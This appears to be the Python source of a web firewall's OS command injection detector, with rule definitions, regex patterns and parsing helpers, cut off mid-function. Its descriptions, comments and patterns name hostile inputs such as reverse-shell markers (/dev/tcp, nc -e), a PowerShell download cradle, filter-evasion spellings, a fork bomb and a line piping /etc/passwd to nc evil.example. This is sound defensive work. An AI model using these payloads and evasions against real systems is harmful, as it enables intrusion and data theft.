"""OS command injection detector: read the value as a shell would (``cmdi_shell.py``) and flag a
command separator or substitution that starts a plausible command, shell obfuscation around a
command, Shellshock function definitions, reverse shells and server-side include ``exec``.

Like the SQL detector it evaluates the value as a bare argument and as the inside of a '...' or "..."
argument, so ``'; cat /etc/passwd #`` (which breaks out of a quoted argument) is read correctly and
``echo 'a;b'`` is not.
"""

from __future__ import annotations

import re
from itertools import pairwise

from hullguard.events.schema import Severity
from hullguard.firewall.decoders import LazyPattern
from hullguard.firewall.detectors import cmdi_commands as vocab
from hullguard.firewall.detectors.base import Detection, RuleInfo, ScanContext
from hullguard.firewall.detectors.cmdi_shell import Segment, split_commands
from hullguard.firewall.detectors.presearch import Presearch
from hullguard.firewall.detectors.sqli_tokens import regex_alternation

FAMILY = "cmdi"

_CWE = "CWE-78"
_FIX = (
    "Do not pass event data to a shell: call programs with an argument list (subprocess.run([...]) "
    "without shell=True, child_process.execFile), validate values against an allow-list, and pass "
    "'--' before user-supplied arguments."
)
RULES: tuple[RuleInfo, ...] = (
    RuleInfo(
        "HG-CMDI-001",
        FAMILY,
        "Shell command after a separator",
        Severity.CRITICAL,
        _CWE,
        "A command separator (; | || && & or a newline) is followed by a command such as id, cat /etc/passwd, "
        "wget http://..., /bin/sh or cmd.exe.",
        _FIX,
    ),
    RuleInfo(
        "HG-CMDI-002",
        FAMILY,
        "Shell command substitution",
        Severity.CRITICAL,
        _CWE,
        "$(...) or `...` runs a command and splices its output into the command line.",
        _FIX,
    ),
    RuleInfo(
        "HG-CMDI-003",
        FAMILY,
        "Obfuscated shell command",
        Severity.CRITICAL,
        _CWE,
        "A command hidden from filters with ${IFS}, empty quotes (c''at), backslashes, $'\\x63at', brace "
        "expansion {cat,/etc/passwd} or path globbing /???/??t.",
        _FIX,
    ),
    RuleInfo(
        "HG-CMDI-004",
        FAMILY,
        "Shellshock function definition",
        Severity.CRITICAL,
        "CWE-78",
        "A value starting a bash function definition '() {' runs the commands after it in bash before "
        "4.3 (CVE-2014-6271) when passed through an environment variable.",
        "Upgrade bash; never export event data into the environment of a shell.",
    ),
    RuleInfo(
        "HG-CMDI-005",
        FAMILY,
        "Reverse shell or download-and-execute",
        Severity.CRITICAL,
        _CWE,
        "The command line opens a reverse shell (/dev/tcp/, nc -e, bash -i, PowerShell's TCPClient) or pipes a "
        "download into a shell (PowerShell: IEX (New-Object Net.WebClient).DownloadString(...)).",
        _FIX,
    ),
    RuleInfo(
        "HG-CMDI-006",
        FAMILY,
        "Command line as value",
        Severity.HIGH,
        _CWE,
        "The whole value is a command line that reads system files, downloads from a URL or runs an "
        "interpreter (cat /etc/passwd, wget http://..., nc -e /bin/sh).",
        _FIX,
    ),
    RuleInfo(
        "HG-CMDI-007",
        FAMILY,
        "Reconnaissance command as value (stricter)",
        Severity.LOW,
        _CWE,
        "The value is a bare reconnaissance command (whoami, uname -a, ifconfig); reported from paranoia 2 "
        "because such words are also ordinary data.",
        _FIX,
        paranoia=2,
    ),
    RuleInfo(
        "HG-CMDI-009",
        FAMILY,
        "Shell command in a command-execution call",
        Severity.CRITICAL,
        _CWE,
        "A call such as system('id'), os.system(\"cat /etc/passwd\"), exec('whoami') or "
        "child_process.exec('...') carries a shell command line, as do PHP's system(id) with a bare word and "
        "Perl's and Ruby's qx(id) and %x{id} (code injection that runs OS commands).",
        _FIX,
    ),
    RuleInfo(
        "HG-CMDI-010",
        FAMILY,
        "Argument injection: an option that runs a command",
        Severity.CRITICAL,
        "CWE-88",
        "An option that makes the program it is passed to run another command, where a function puts the "
        "value on a command line as an argument (no shell needed): ssh's -oProxyCommand=, tar's "
        "--use-compress-program=, --to-command= and --checkpoint-action=exec, git's --upload-pack=, "
        "--open-files-in-pager= and "
        "core.sshCommand, rsync's --rsync-path=, Chromium's --gpu-launcher= and --renderer-cmd-prefix=.",
        _FIX,
    ),
    RuleInfo(
        "HG-CMDI-011",
        FAMILY,
        "Shell fork bomb",
        Severity.HIGH,
        "CWE-400",
        "A shell function whose body runs itself twice, piped or in the background (:(){ :|:& };:), fills "
        "the process table until the host stops answering: a denial of service wherever the value reaches "
        "a shell.",
        _FIX,
    ),
    RuleInfo(
        "HG-CMDI-008",
        FAMILY,
        "Server-side include exec",
        Severity.HIGH,
        "CWE-97",
        "<!--#exec cmd=...--> runs a command when the value is served by a server with SSI enabled.",
        "Disable server-side includes or encode output written into SSI-processed pages.",
    ),
)

_AMBIGUOUS = frozenset({"id", "dir", "ver", "set", "route", "arp", "sh", "cmd", "env"})
_SUBSTITUTIONS = frozenset({"$(", "`", "<(", ">("})
_WEAK_SEPARATORS = frozenset({"(", "&", "{", "\n"})
_ASSIGNMENT = re.compile(r"^[A-Za-z_]\w*=")
_EMPTY_EXPANSION = re.compile(r"\$\{?[a-z_]\w{0,15}\}?")  # as the tokenizer spells a variable alone: "$u"
_IFS = re.compile(r"\$\{?IFS\b", re.IGNORECASE)
_SHELLSHOCK = re.compile(r"^[\s'\"]{0,8}\(\s*\)\s*\{")
# A shell function definition, NAME() { BODY }: a fork bomb when BODY runs NAME twice joined by "|" or
# "&" (``_fork_bomb``). Names as bash allows them (":" and "." too); the body up to its first "}".
_FUNCTION_DEFINITION = re.compile(r"([\w.:-]{1,64})[ \t]{0,8}\([ \t]{0,8}\)[ \t]{0,8}\{([^}]{1,200})\}")
_BODY_TOKENS = re.compile(r"[|&;]|[^\s|&;()]+")
# Language functions that hand a string to the shell: system('id'), os.system("..."), exec(`...`).
_EXEC_FUNCTION_WORDS = (
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "eval",
    "spawn",
    "execsync",
    "spawnsync",
    "execfile",
    "capture2",  # Ruby's Open3
    "capture2e",
    "capture3",
    "popen2",
    "popen2e",
    "popen3",
)
_EXEC_CALL = re.compile(
    r"(?<![\w$])(?:" + regex_alternation(_EXEC_FUNCTION_WORDS) + r")\s{0,4}\(\s{0,4}([\"'`])([^\"'`]{1,2048})\1",
    re.IGNORECASE,
)
# The same functions of PHP with an unquoted argument: PHP reads a bare word as a string (a constant
# that is not defined), so system(id) runs id; and Perl's and Ruby's backtick operators, qx(...) and
# %x(...), with brackets as delimiters (qx/id/ reads as a path). Only when the argument starts with
# a command word.
_PHP_SHELL_FUNCTIONS = ("system", "exec", "shell_exec", "passthru")  # of _EXEC_FUNCTION_WORDS, PHP's
_BARE_EXEC_CALL = re.compile(
    r"(?<![\w$])(?:" + regex_alternation(_PHP_SHELL_FUNCTIONS) + r")"
    r"\s{0,4}\(\s{0,4}([^\s\"'`()][^\"'`()\n]{0,200}?)\s{0,4}\)"
    r"|(?<![\w$%])(?:qx|%x)\s{0,4}(?:\(([^()\n]{1,200})\)|\{([^{}\n]{1,200})\}|\[([^\[\]\n]{1,200})\])",
    re.IGNORECASE,
)
# One of these is spelled by every call the two patterns above find (the function names that hold no
# other one, "capture2" for "capture2e"): a few substring finds rule most values out, where the
# patterns' case-insensitive alternations are tried at every position (about 15 us on a 200-character
# tracking parameter).
_CALL_WORDS = tuple(
    word
    for word in (*_EXEC_FUNCTION_WORDS, "qx", "%x")
    if not any(other in word for other in _EXEC_FUNCTION_WORDS if other != word)
)
# Ruby's %x(...) whose command is an interpolation (%x(#{Base64.decode64('aWQ=')})): the command is
# built at run time, so no command word shows, and only code that runs a shell writes it.
_INTERPOLATED_COMMAND = re.compile(r"(?<![\w$%])%x\s{0,4}[({\[]\s{0,4}#\{", re.IGNORECASE)
# PowerShell's download cradle and reverse shell: a WebClient fetching a script to run, a TCP client
# (IEX (New-Object Net.WebClient).DownloadString('http://...'), New-Object System.Net.Sockets.TCPClient(...)).
_POWERSHELL_NETWORK = re.compile(
    r"net\.webclient\s{0,4}\)?\s{0,4}\.\s{0,4}download(?:string|file|data)\s{0,4}\("
    r"|new-object\s{1,4}(?:system\.)?net\.sockets\.tcpclient\b",
    re.IGNORECASE,
)
_OPERATOR_CHAR = re.compile(r"[;|&\n\r`(){]")
# HTML's character references in text that was escaped for a page ("said: &quot; Ruby ..."): their "&"
# and ";" are no shell operators. The engine also inspects the decoded view, where an escaped operator
# ("&amp;&amp; id") is one; here the references become blanks of the same length.
_HTML_ENTITY = re.compile(
    r"&(?:#\d{1,7}|#x[0-9a-f]{1,6}|quot|amp|apos|lt|gt|nbsp|copy|reg|trade|hellip|[mn]dash|[lr][sd]quo|[lr]aquo"
    r"|middot|bull|euro|pound|yen|cent|deg|times|divide|plusmn|para|sect|shy"
    r"|[a-z](?:acute|grave|circ|tilde|uml|ring|cedil|slash|lig));",
    re.IGNORECASE,
)
_SSI_EXEC = re.compile(r"<!--\s*#\s*exec\s", re.IGNORECASE)
# cmd.exe drops a caret and keeps the character after it, so "p^i^n^g" runs ping: the value is read
# without the carets inside a word ("^c^m^d" included). A caret that only starts a word stays: "^ls|^cat"
# is a regular expression, not two commands.
_CMD_CARET = re.compile(r"(?<=\w)\^(?=\w)|\^(?=\w\^)")
# Options that make a program run a command of the caller's choosing (argument injection), written as a
# program reads them with "=" before the command (with a blank instead they are as likely a sentence
# about the option: "use --to-command for it").
# (The prefilter looks for the long ones after "--" only: a word after two dashes is rare in text, and so
# are the states the gate's automaton keeps for it.)
_LONG_COMMAND_OPTIONS = (  # each takes the command as its value
    "gpu-launcher", "renderer-cmd-prefix", "utility-cmd-prefix", "browser-subprocess-path", "use-compress-program",
    "to-command", "rsh-command", "info-script", "new-volume-script", "rsync-path", "upload-pack", "receive-pack",
    "unzip-command", "open-files-in-pager",
)
_ARGUMENT_INJECTION = Presearch(
    r"(?:^|[\s'\"])(?:-o\s{0,4}['\"]?proxycommand\s{0,4}=|-c\s{0,4}['\"]?core\.(?:sshcommand|fsmonitor)\s{0,4}="
    r"|--(?:" + regex_alternation(_LONG_COMMAND_OPTIONS) + r")\s{0,4}=\s{0,4}['\"]?[^\s'\"-]"
    r"|--checkpoint-action\s{0,4}=\s{0,4}['\"]?exec)",  # tar's action takes "exec=" before the command
    re.IGNORECASE,
)
# cmd.exe's substring expansion, %VAR:~start,length%: a blank or a letter cut out of a variable's value
# ("ping%CommonProgramFiles:~10,-18%127.0.0.1" is "ping 127.0.0.1"). Only batch files write it.
_CMD_SUBSTRING = re.compile(r"%[a-z_][\w()]{0,40}:~-?\d{1,4}(?:,-?\d{1,4})?%", re.IGNORECASE)
# A value that is a cmd.exe FOR loop or IF statement: each runs the command it ends with. Their grammar
# is cmd.exe's own: a loop variable written with "%" before "IN (...) DO", an IF test on EXIST, DEFINED,
# ERRORLEVEL, CMDEXTVERSION, "==" or a comparison word (EQU, NEQ, LSS, LEQ, GTR, GEQ) followed by a
# command or "(" - no sentence says "for %a in (x) do" or "if %ERRORLEVEL% EQU 2 goto end".
_BATCH_BUILTINS = frozenset(
    {"goto", "call", "exit", "move", "ren", "rename", "rd", "md", "erase", "pause", "shift", "if"}  # "if": nested
)
_BATCH_FOR = re.compile(
    r"^[\s'\"]{0,8}for\s{1,64}(?:/[dlrf]\s{1,64}(?:\"[^\"\n]{0,200}\"\s{1,64})?){0,3}%{1,2}~?[a-z]\w{0,30}\s{1,64}"
    r"in\s{0,64}\([^)\n]{0,1000}\)\s{0,64}do(?=[\s(@])",
    re.IGNORECASE,
)
_BATCH_IF_TEST = (
    r"if\s{1,64}(?:/i\s{1,64})?(?:not\s{1,64})?"
    r"(?:(?:exist|defined|errorlevel|cmdextversion)\s{1,64}\S{1,260}"
    r"|(?:\"[^\"\n]{0,100}\"|[^\s=]{1,100})\s{0,64}==\s{0,64}(?:\"[^\"\n]{0,100}\"|[^\s=]{1,100})"
    r"|\S{1,100}\s{1,64}(?:equ|neq|lss|leq|gtr|geq)\s{1,64}\S{1,100})"
)
# Compiled on the first value that opens with "if": its command alternation costs 2 ms to compile.
_BATCH_IF = LazyPattern(
    r"^[\s'\"]{0,8}" + _BATCH_IF_TEST + r"\s{1,64}(?:\(|@?(?:" + regex_alternation(vocab.KNOWN | _BATCH_BUILTINS)
    + r")(?![\w-]))",
    re.IGNORECASE,
)
_BLANKS_AND_QUOTES = " \t\n\r\x0b\x0c'\""  # what may stand before a value's first word
_BLANKS_AFTER_CLOSE = (" ", "\t")
_INTERPRETERS = frozenset({"sh", "bash", "zsh", "ksh", "dash", "python", "python2", "python3", "perl", "ruby", "php"})
# cmd.exe runs the rest of its line as a command after /c (and stays open after /k; /r is /c's old name).
_CMD_RUN_FLAGS = frozenset({"/c", "/k", "/r"})
# A redirection's target that names a file: a path, a name with an extension, a descriptor
_FILE_TARGET = re.compile(r"[~.]{0,2}/[\w./-]{0,200}|[\w-]{1,64}\.[a-z0-9]{1,5}|&?\d")
_STRONG_SEPARATORS = frozenset((";", "|", "||", "&&", "$(", "`"))
# Shell words that open a compound command and are followed by a command: "while true; do id; done"
# runs id, "if grep -q x f; then cat f; fi" runs grep and cat.
_COMPOUND_WORDS = frozenset({"do", "then", "else", "elif", "if", "while", "until", "!"})
_FETCHERS = frozenset({"wget", "curl", "fetch", "tftp", "ftp", "certutil", "bitsadmin"})
# Reconnaissance commands that are no everyday word: the whole value may be just the command.
_RECON_ALONE = (
    "whoami",
    "ifconfig",
    "ipconfig",
    "uname",
    "netstat",
    "systeminfo",
    "sysinfo",
    "lsb_release",
    "printenv",
)
# Commands outside STANDALONE that still print what an attacker is after when run without arguments.
_INFORMATIVE_ALONE = frozenset({"who", "last", "free", "df", "mount", "set", "export", "history"})
# A value that starts with a command word (possibly behind a path, quotes or a brace): the only way a
# value without any separator can be flagged. Also the start-of-value part of the prefilter. Every
# repetition is deterministic ("[^/]" then "/"), so the match is linear. U+0001 is no path character:
# the engine joins views with it, and a segment run that crossed it would walk up to 8 x 64 characters
# into the following views from every view start (about 15 us per typical POST); a path segment holding
# U+0001 names no binary anyway.
def _leading_command_pattern(words: frozenset[str]) -> str:
    """A value that opens with one of ``words`` (after quotes, blanks and a directory path), or is one
    reconnaissance word alone."""
    return (
        r"^[\s'\"{]{0,8}(?:[^\s/\\\x01]{0,64}[/\\]){0,8}(?:"
        + regex_alternation(words)
        + r")(?:\.(?:exe|com|bat))?(?=[\s'\"\\$<>{},;|&`(])|^[\s'\"]{0,8}(?:"
        + regex_alternation(_RECON_ALONE)
        + r")[\s'\"]{0,8}$"
    )


_LEADING_COMMAND = re.compile(_leading_command_pattern(vocab.KNOWN | vocab.PREFIX_COMMANDS), re.IGNORECASE)

# Necessary condition: a separator/substitution character (also "<(" / ">(" process substitution), a "$"
# expansion, Shellshock, SSI, an escaped newline, a command-execution call, brace expansion, a glob path
# or a leading command word. Spelled in three parts so that ``detect`` can test it part by part (below).
_PREFILTER_SEPARATOR = r"[;|&\n\r`]"
_PREFILTER_ANYWHERE = (
    r"\$[({'\w@*#?!-]|[<>]\(|<!--|\\[nr]|\{\w+,|\{,\w|(?:" + regex_alternation(_EXEC_FUNCTION_WORDS) + r")\s{0,4}\("
    + r"|--(?:" + regex_alternation((*_LONG_COMMAND_OPTIONS, "checkpoint-action")) + r")"
    + r"|proxycommand|core\.(?:sshcommand|fsmonitor)|:~-?\d|(?:qx|%x)\s{0,4}[({\[]"
)
# A value's first word split twice by quotes or backslashes, the first time within its first three
# letters (w'h'o'am'i, wh''oami, w\\ho\\am\\i), or opened by a quoted piece of up to three letters that
# letters follow ('w'hoami, "wh"oami): a shell joins the pieces into one command word, while text has
# at most one apostrophe in a word (O'Neil, don't). The letters before the first split are
# bounded because the gate's DFA follows every view's first word for as long as this can still match:
# a whole first word cost 1.5 % more instructions per request on the traffic stream, three letters 1.1 %.
_SPLIT_FIRST_WORD = r"^(?:[a-z]{1,3}['\"\\][a-z]*['\"\\]|['\"][a-z]{1,3}['\"][a-z])"
# The prefilter's leading words also hold cmd.exe's "if" (``_BATCH_IF``), which is no command of the
# vocabulary: in the same prefix tree as "id" and "ifconfig" it costs the gate nothing measurable, where
# an alternative of its own ("^[\s'\"]{0,8}if\s") cost 0.45 % more instructions per request on the
# traffic stream (RE2 builds its DFA states on new text, and each then carries both prefixes).
_PREFILTER_AT_START = (
    r"^[\s'\"]{0,8}(?:\(\s*\)\s*\{|/[\w/]{0,64}[?*\[])|" + _SPLIT_FIRST_WORD + "|"
    + _leading_command_pattern(vocab.KNOWN | vocab.PREFIX_COMMANDS | {"if"})
)
PREFILTER = _PREFILTER_SEPARATOR + "|" + _PREFILTER_ANYWHERE + "|" + _PREFILTER_AT_START
# The alternative of PREFILTER that most benign values match (an "&" of a URL's query, a ";" of a
# header), a character class: the gate matches it apart from the rest, and where the rest matches no
# view, the views it matches are found by one search for the class (``Firewall._split_gate``).
PREFILTER_COMMON = _PREFILTER_SEPARATOR
# Tested part by part: Python's regex engine tries every alternative of PREFILTER at every position
# (about 8 us on a User-Agent), while one character class is found by a fast scan, and the "^"
# alternatives (no MULTILINE) can only match at position 0. search(A|B|^C) finds a match exactly when
# search(A) or search(B) or match(^C) does.
_SEPARATOR_RE = re.compile(_PREFILTER_SEPARATOR)
_ANYWHERE_RE = re.compile(_PREFILTER_ANYWHERE, re.IGNORECASE)
_AT_START_RE = re.compile(_PREFILTER_AT_START, re.IGNORECASE)


def _fork_bomb(text: str) -> re.Match[str] | None:
    """The first function definition in ``text`` whose body calls the function on both sides of a "|"
    or "&" (":(){ :|:& };:", "f(){ f & f; }"): two copies that each start two more."""
    for match in _FUNCTION_DEFINITION.finditer(text):
        name = match.group(1)
        tokens = _BODY_TOKENS.findall(match.group(2))
        for i in range(1, len(tokens) - 1):
            if tokens[i] in ("|", "&") and tokens[i - 1] == name and tokens[i + 1] == name:
                return match
    return None


def _prefilter_matches(text: str) -> bool:
    """``re.search(PREFILTER, text, re.IGNORECASE) is not None``, a few times cheaper."""
    return bool(_SEPARATOR_RE.search(text) or _ANYWHERE_RE.search(text) or _AT_START_RE.match(text))


_RULES_BY_ID = {rule.rule_id: rule for rule in RULES}


# Every rule below the regular-expression ones needs a known command or a program path as a word of
# the value, a glob path (a word such as ``/???/??t``), a /dev/tcp redirection, or quoting, escaping or
# expansion that could spell one (``w'h'oami``, ``$0``, ``{cat,/etc/passwd}``). A value with none of
# those - a User-Agent such as "Mozilla/5.0 (Windows NT 10.0; Win64; x64) ...", a Referer with a query,
# an Accept header with "*/*" - is answered without the shell tokenizer.
_SPELLING_CHARS = ("'", '"', "\\", "$", "`", "{", "}", "[")
# A word is a run between blanks and ; | & < > ( ) (the tokenizer's breaks, and more: splitting at more
# characters only finds more candidate words). Without quotes and escapes, a word names a command when
# the part after its last "/" - for a word without "/", the word after its leading digits ("<5bash"
# reads a descriptor number, then "bash") - is a known command, possibly with a Windows program suffix
# (``_command_name``); it is a program path when it starts with a binary directory or holds
# "/system32/" or "/windowspowershell/" (``_is_binary_path``). "?" and "*" are no shell syntax for the
# tokenizer: they only matter in a command word that is a glob path (``_judge``: it starts with "/").
# One regex built from the vocabulary finds every such word, and a few more (it also skips digits after
# a "/", finds the directories anywhere in a word and takes any word starting with "/" that holds "?"
# or "*"): only more values take the tokenizer. Every match starts with a word break or "/", so the
# regex engine tries only those positions (found by a fast scan); the alternations are prefix trees of
# fixed words, and a glob path is read from the start of its word to its first "?" or "*" at most:
# linear time.
_PROGRAM_DIRS = [directory[1:] for directory in vocab.BINARY_DIRS] + ["windowspowershell/", "dev/tcp/", "dev/udp/"]
_NAMED_PROGRAM = Presearch(
    r"[\s;|&<>()/](?:[0-9]*(?:"
    r"(?:" + regex_alternation(vocab.KNOWN) + r")(?:\.exe|\.com|\.bat)?(?![^\s;|&<>()])"
    r"|/?(?:" + regex_alternation(_PROGRAM_DIRS) + r"))"
    r"|(?<=[\s;|&<>()])[0-9]*/[^\s;|&<>()?*]*[?*])"  # a glob path, read from a word break only
)


def _names_no_command(text: str) -> bool:
    """No word of ``text`` names a command or a program path, and nothing could spell one. The
    lower-cased value gets a leading blank so that its first word also follows a word break."""
    if any(c in text for c in _SPELLING_CHARS):
        return False
    return _NAMED_PROGRAM.search(" " + text.lower()) is None


def _command_name(word: str) -> str:
    name = word.replace("\\", "/").rpartition("/")[2].lower()
    return name[:-4] if name.endswith((".exe", ".com", ".bat")) else name


def _spelled_in_lower_case(word: str) -> bool:
    """The command name in ``word`` has no capital letter: a Unix shell finds a command only so."""
    name = word.replace("\\", "/").rpartition("/")[2]
    return not any(ch.isupper() for ch in name)


def _is_binary_path(word: str) -> bool:
    lowered = word.lower().replace("\\", "/")
    return lowered.startswith(vocab.BINARY_DIRS) or "/system32/" in lowered or "/windowspowershell/" in lowered


def _first_command(line: str) -> str:
    """The first command of a command line when it is a known program or a program path, else ""."""
    inner = split_commands(line)
    if not inner:
        return ""
    words = inner[0].words
    index = _command_index(words)
    if index >= len(words):
        return ""
    first = words[index]
    return first if _command_name(first) in vocab.KNOWN or _is_binary_path(first) else ""


def _command_index(words: list[str], redirect: bool = False) -> int:
    """Index of the command word: skip the shell's compound-command words (``do``, ``then``, ``if``...)
    before it, NAME=value assignments and prefixes such as sudo/nohup. ``redirect``: the command has a
    redirection, whose file descriptor (the 2 of ``2>&1``) stays among its words."""
    i = 0
    while i < len(words) - 1 and words[i].lower() in _COMPOUND_WORDS:
        i += 1
    while i < len(words) and (_ASSIGNMENT.match(words[i]) or words[i].lower() in vocab.PREFIX_COMMANDS):
        wrapped = _wrapped_command(words, i)
        if wrapped > i:
            i = wrapped
            continue
        if vocab.WRAPPER_OPERANDS.get(words[i].lower(), 0):
            break  # "timeout id", "flock ls" with no operand: the word is the command (or prose)
        following = words[i + 1] if i + 1 < len(words) else ""
        if words[i].lower() in vocab.PREFIX_COMMANDS and (
            not following
            or following.startswith("-")
            or (following.startswith("#") and not following[1:2].isdigit())
            or (redirect and following.isdigit())
        ):
            # "sudo -l", "; env", "; env #", "; env 2>&1": the prefix word is the command itself when
            # nothing, an option, a comment (not a number: "env #3 is down") or a redirection's file
            # descriptor follows it
            break
        i += 1
    if i + 1 < len(words) and _EMPTY_EXPANSION.fullmatch(words[i]) and words[i + 1].lower() in vocab.KNOWN:
        # "; $u cat /etc/passwd": an unset variable expands to no word and a command name follows (after
        # "c=cat;$c /etc/passwd" the variable is the command: a path follows it, no name)
        i += 1
    return i


def _wrapped_command(words: list[str], i: int) -> int:
    """The index of the command a wrapper at ``i`` runs past its options and operands ("timeout 1 id",
    "stdbuf -o0 env", "command -p id", "taskset 0x1 id"), when a known command stands there, else ``i``."""
    operands = vocab.WRAPPER_OPERANDS.get(words[i].lower())
    if operands is None:
        return i
    j = i + 1
    while j < min(len(words), i + 4) and words[j].startswith("-") and len(words[j]) > 1:
        j += 1
    for _ in range(operands):  # a duration, a CPU mask, a lock file or a root directory: no word of prose
        if j >= len(words) or not _WRAPPER_OPERAND.fullmatch(words[j]):
            return i
        j += 1
    return j if j < len(words) and _command_name(words[j]) in vocab.KNOWN else i


_WRAPPER_OPERAND = re.compile(r"[\d.]{1,12}[smhd]?|0x[\da-f]{1,16}|[\d,-]{1,32}|[~.]{0,2}/[\w./-]{0,200}")


def _strong_argument(arg: str) -> bool:
    return bool(
        vocab.SENSITIVE_PATH.match(arg)
        or vocab.URL_ARGUMENT.match(arg)
        or vocab.IPV4_ARGUMENT.match(arg)
        or arg.lower().startswith(("hklm\\", "hkcu\\", "hkey_"))
    )


def _argument_signal(segment: Segment, name: str, args: list[str], strict: bool) -> str | None:
    """Why the arguments look like a command line (None when they read like prose)."""
    if name in _RUNTIMES and args and all(_VERSION.fullmatch(a.strip(_VERSION_MARKS)) for a in args):
        # "AWS Lambda; Python 3.12; Node 18", "Python <3.12>": a tech stack names runtimes by version (a
        # "<" before one reads to a shell as a redirection from a file named "3.12"), no script
        return None
    if segment.redirect:
        return "a redirection"
    subcommands = vocab.ADMIN_SUBCOMMANDS.get(name)
    if subcommands is not None and args and args[0].lower() in subcommands:
        return f"sub-command {args[0].lower()}"
    if name == "for":  # a loop names its variable (%i, $f) or its body (do): "; for a GUI interface" is prose
        looping = any(arg.startswith(("%", "$")) or arg.lower() == "do" for arg in args)
        return "a loop" if looping else None
    if not strict and args and name in vocab.ANY_ARGUMENT:
        return f"argument {args[0][:40]!r}"
    if not strict and name == "which" and args and args[0].lower() in vocab.KNOWN:
        return f"command name {args[0][:40]!r}"  # "; which nc": is the tool for the next step there?
    for arg in args:
        if _strong_argument(arg):
            return f"argument {arg[:40]!r}"
        if vocab.UNIX_OPTION.match(arg) or vocab.WINDOWS_OPTION.match(arg):
            return f"option {arg}"
        if arg.startswith("$"):
            return f"variable {arg[:20]}"
        word = arg.rstrip(_PROSE_PUNCTUATION)  # "interface," and "COPYING." end a clause, not a path
        if not strict and word and (vocab.NUMBER.match(word) or "/" in word or "." in word or not word.isalnum()):
            return f"argument {arg[:40]!r}"
    return None


_PROSE_PUNCTUATION = ",.;:!?"
# Interpreters and runtimes that a list of technologies names with a version ("Python 3.12", "Node 18.x").
_RUNTIMES: frozenset[str] = _INTERPRETERS | {"node", "nodejs", "java"}
# "3.12", "v18", "18.x", "3.12+"; ".12" (a shell reads "<3.12" as a redirection from descriptor 3); each
# repetition bounded: linear
_VERSION = re.compile(r"v?(?:\d{1,4}(?:\.(?:\d{1,6}|x)){0,3}|\.\d{1,6}(?:\.(?:\d{1,6}|x)){0,2})\+?")
_VERSION_MARKS = _PROSE_PUNCTUATION + "<>=~^"  # around a version: "<3.12>", ">=18", "~3.2"
# Commands whose arguments are free text by design: "; echo you have been hacked" is the probe itself.
_TEXT_COMMANDS = frozenset({"echo", "printf"})


def _prose_after_separator(name: str, args: list[str]) -> bool:
    """A command word after a separator that a sentence goes on from ("arrived late; netstat shows
    nothing odd", "Order 12 | ping me when it ships", "fine; id wear it every day"): three plain words
    follow it, none of them a command (as "; sudo reboot now" has), and it is no text command or
    administration tool whose sub-command is a plain word."""
    if name in _TEXT_COMMANDS or name in vocab.ADMIN_SUBCOMMANDS or not _reads_as_prose(args):
        return False
    return args[0].lower() not in vocab.KNOWN


def _admin_form(name: str, args: list[str]) -> bool:
    """The arguments of a Windows administration tool start as the tool reads them: a sub-command, the
    remote machine that sc and reg name before it (a backslash first: the shell has read the UNC name's
    two as one), or a switch (wmic /node:host); not a Unix path ("net /usr/lib/sendmail" is a log line)."""
    first = args[0].lower() if args else ""
    switch = first.startswith("/") and "/" not in first[1:]
    return first in vocab.ADMIN_SUBCOMMANDS[name] or first.startswith("\\") or switch


def _counted_ping(name: str, args: list[str]) -> bool:
    """``ping -c 6 localhost``: a count option and its number, as a blind probe times its delay with
    (a sentence says "ping the server 6 times")."""
    return name == "ping" and any(
        arg.lower() in ("-c", "-n") and following.isdigit() for arg, following in pairwise(args)
    )


def _reads_as_prose(args: list[str]) -> bool:
    """The command word opens a sentence: its first three arguments are plain words ("Python was
    written by ...", "For terms of use, see http://..."). A command line puts an option, a path, a
    host or a value that close to its command."""
    return len(args) >= 3 and all(arg.rstrip(_PROSE_PUNCTUATION).isalpha() for arg in args[:3])


def _judge(
    segment: Segment,
    quoted_context: bool,
    leading: bool,
    command_first: bool,
    ifs: bool = False,
    quotes_paired: bool = False,
    brace_start: bool = False,
    appended: bool = False,
) -> tuple[str, str] | None:
    """Is this simple command an injected command? ``leading``: its separator opens the value;
    ``ifs``: the value uses $IFS, the shell's field separator, which only shell code spells out;
    ``quotes_paired``: the value's quotes of each kind come in pairs, as a shell's quoting does;
    ``brace_start``: the value opens with a brace expansion whose first element is empty ("{,id}");
    ``appended``: a line break after a one-token value starts the value's last line (``_appended_line``),
    or an ``&`` after one puts a time delay in the background."""
    words = segment.words
    if segment.leading_targets == len(words):
        return None  # redirections alone run no command: an HTML tag on a line of its own ("\n<head>")
    # A redirection before the command names its target first (";<in cat", "; >out cat /etc/passwd"):
    # read so after a separator that only shell code writes; at the start of a line the same shape is
    # documentation's angle-bracket placeholders ("<Resource Type> <Property>") or a doctest's ">>>"
    # (after a line break or "&", only when the targets are files: "x\n</etc/passwd nc evil.example 80")
    targets = segment.leading_targets
    if targets and segment.opener not in _STRONG_SEPARATORS and not all(
        _FILE_TARGET.fullmatch(word) for word in words[:targets]
    ):
        return None
    index = targets + _command_index(words[targets:], segment.redirect)
    if index >= len(words):
        return None
    raw = words[index]
    name = _command_name(raw)
    args = words[index + 1 :]
    opener = segment.opener
    known = name in vocab.KNOWN and (name in vocab.CASE_INSENSITIVE or _spelled_in_lower_case(raw))
    binary_path = _is_binary_path(raw)
    if vocab.GLOB_PATH.match(raw) and sum(raw.count(c) for c in "?*") >= 2:
        return ("HG-CMDI-003", f"glob {raw[:40]!r} expands to a program path")
    if not (known or binary_path):
        return None
    what = f"command {raw[:40]!r}"
    if not segment.parses and index not in segment.glued_words:
        # "`ls -l' lists ...", "; reboot didn't help": a syntax error to a shell, and prose. A command word
        # spelled in quoted pieces (;w'h'o'a'm'i) is an attack whether or not its quotes pair up.
        return None
    # Quotes glued inside another word ("It didn't work") hide nothing: the command word itself must be
    # spelled with them (c'a't), or the whole line ($IFS, {cat,/etc/passwd}).
    glued = segment.obfuscated and (not segment.glued_words or index in segment.glued_words)
    if glued and opener != "start":
        return ("HG-CMDI-003", f"{what} hidden with quotes, escapes or $IFS")
    if opener in _SUBSTITUTIONS:
        if not binary_path and not _spelled_in_lower_case(raw):
            # Only a Unix shell substitutes, and it finds no "Python" or "CMD": reStructuredText's
            # "`Python package <https://...>`_" and Markdown's "`CMD`" name no command.
            return None
        # Markdown uses backticks for inline code ("`more code`"): a backticked word that is also
        # English needs command-line arguments. $(name) alone is how Makefiles, CI pipelines and
        # templates write a variable ("$(host)", "$(file)"), so a command that does nothing alone needs
        # them there too; $(whoami), $(id) and $(set) stay reported.
        spelled_like_a_variable = not args and name not in _INFORMATIVE_ALONE
        prose_like = (opener == "`" or spelled_like_a_variable) and name not in vocab.STANDALONE and not binary_path
